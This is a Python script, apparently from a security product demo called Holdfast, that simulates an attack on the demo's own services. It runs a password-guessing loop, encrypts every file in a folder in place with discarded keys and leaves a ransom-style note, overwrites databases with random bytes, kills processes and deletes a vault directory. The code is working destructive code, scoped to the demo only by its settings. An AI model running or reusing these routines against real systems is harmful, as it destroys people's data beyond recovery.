"""The attack, for real but only inside the demo's directory: guessed password, encryption, destruction."""

from __future__ import annotations

import argparse
import json
import os
import shutil
import signal
import time
from contextlib import suppress
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from cli import output
from cli.demo.services.base import call

_NOTE = "Your files are encrypted. (This is the Holdfast demo: the key was thrown away.)\n"


def guess_password(url: str, login: str, password: str, tries: int) -> str:
    """Send `tries` log-in requests with wrong passwords, then the right one; return the token."""
    for number in range(tries):
        call(f"{url}/login", {"login": login, "password": f"Spring{number}!"})
    _, answer = call(f"{url}/login", {"login": login, "password": password})
    return str(answer.get("token", ""))


def encrypt_in_place(folder: Path) -> int:
    """Encrypt every file below a folder with a key nobody keeps, names unchanged; leave a note."""
    count = 0
    for file in sorted(folder.rglob("*")):
        if file.is_file():
            encryptor = Cipher(algorithms.AES(os.urandom(32)), modes.CTR(os.urandom(16))).encryptor()
            file.write_bytes(encryptor.update(file.read_bytes()) + encryptor.finalize())
            count += 1
    (folder / "READ_ME_TO_DECRYPT.txt").write_text(_NOTE)
    return count


def overwrite(database: Path) -> None:
    """Write random bytes over a database, its size unchanged."""
    size = database.stat().st_size
    with database.open("r+b") as out:
        out.write(os.urandom(size))
    for journal in (f"{database}-wal", f"{database}-journal"):
        Path(journal).unlink(missing_ok=True)


def kill_services(names: list[str], ports: dict[str, int], home: Path) -> int:
    """Kill the demo's service processes outright, found by their command lines and the demo's mark."""
    killed = 0
    mark = f"HOLDFAST_DEMO_RUN={home}".encode()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with suppress(OSError):
            words = (entry / "cmdline").read_bytes().split(b"\0")
            ours = mark in (entry / "environ").read_bytes().split(b"\0")
            if ours and any(str(ports[name]).encode() in words for name in names):
                os.kill(int(entry.name), signal.SIGKILL)
                killed += 1
    return killed


def main() -> None:
    """Carry it out, telling what is done."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--settings", type=Path, required=True, help="JSON file: home, urls, ports, hosts, login, password"
    )
    parser.add_argument("--tries", type=int, default=300)
    given = parser.parse_args()
    settings = json.loads(given.settings.read_text())
    home, hosts = Path(settings["home"]), {key: Path(path) for key, path in settings["hosts"].items()}
    token = guess_password(settings["urls"]["sso"], settings["login"], settings["password"], given.tries)
    output.line(
        f"{given.tries} log-ins with wrong passwords for {settings['login']}, then one that worked: {bool(token)}"
    )
    count = encrypt_in_place(hosts["edoc"] / "srv" / "edoc" / "files")
    output.line(f"{count} documents encrypted in place")
    time.sleep(settings["linger"])
    for key, root in hosts.items():
        overwrite(root / "srv" / key / f"{key}.db")
    output.line(f"{len(hosts)} databases overwritten with random bytes")
    time.sleep(settings["linger"] / 2)
    output.line(f"{kill_services(list(hosts), settings['ports'], home)} services killed")
    shutil.rmtree(home / "vault")
    output.line("the online vault destroyed, every repository in it")


if __name__ == "__main__":
    main()
